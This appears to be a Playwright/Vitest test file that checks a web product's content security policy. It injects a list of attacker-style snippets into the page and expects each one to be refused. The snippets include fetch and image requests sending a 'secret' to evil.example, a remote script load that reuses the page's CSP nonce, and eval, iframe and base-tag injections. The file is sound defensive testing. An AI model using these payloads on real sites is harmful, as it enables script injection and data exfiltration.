import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, visit } from './openBrowser.ts';
import { type Product, startProduct } from './startProduct.ts';

let product: Product;
let browser: Browser;
beforeAll(async () => {
  [product, browser] = await Promise.all([startProduct(), launchBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await product?.stop();
});

/** What somebody would try who can put something of theirs into the page. */
const ATTEMPTS = {
  'a script in the page': `
    const script = document.createElement('script');
    script.append('window.isOwned = true');
    document.body.append(script);`,
  'a script from elsewhere': `
    const script = document.createElement('script');
    script.setAttribute('nonce', document.querySelector('meta[property="csp-nonce"]').nonce);
    try { script.src = 'https://evil.example/x.js'; } catch {}
    document.body.append(script);`,
  'an image from elsewhere': `new Image().src = 'https://evil.example/?q=secret'`,
  'a request elsewhere': `fetch('https://evil.example/?q=secret').catch(() => {})`,
  'text as markup': `try { document.body.innerHTML = '<img src=x>'; } catch {}`,
  'text as code': `try { window.eval('window.isOwned = true'); } catch {}`,
  'a worker of theirs': `try { new Worker('/themeGuard.js'); } catch {}`,
  'a frame': `
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);`,
  'another base': `
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);`,
} as const;

describe('the content security policy', () => {
  it.each(Object.entries(ATTEMPTS))(
    'refuses %s, and fails the test it happens in',
    async (_what, attempt) => {
      const { page, leave } = await visit(browser, { url: product.url });
      await page.goto('/');
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      const refused = page.waitForEvent('console', (message) => /Refused by the policy/.test(message.text()));
      // A browser checks what the page does, and not what its inspector does: the attempt is a task of the page's own.
      await page.evaluate(`setTimeout(() => { ${attempt} })`);
      await refused;
      expect(await page.evaluate('window.isOwned')).toBeUndefined();
      await expect(leave()).rejects.toThrow(/Refused by the policy/);
    },
  );
});
